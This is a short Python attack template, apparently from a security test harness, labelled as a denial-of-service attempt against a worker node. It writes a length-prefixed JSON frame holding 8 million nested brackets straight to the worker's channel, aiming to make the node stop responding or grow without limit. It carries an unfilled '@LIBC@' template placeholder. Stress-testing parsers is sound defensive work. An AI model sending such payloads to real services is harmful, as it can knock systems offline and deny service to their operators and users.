# family: frames-of-ours
# kind: dos
# tries: raw bytes on the worker's channel: brackets nested 8 million deep
# success looks like: the node stops answering, or grows
def job(plugin):
  @LIBC@
  body = b'{"did":' + b'[' * 8000000
  data = len(body).to_bytes(4, 'big') + body
  while data:
    data = data[os.write(3, data):]
  return 1
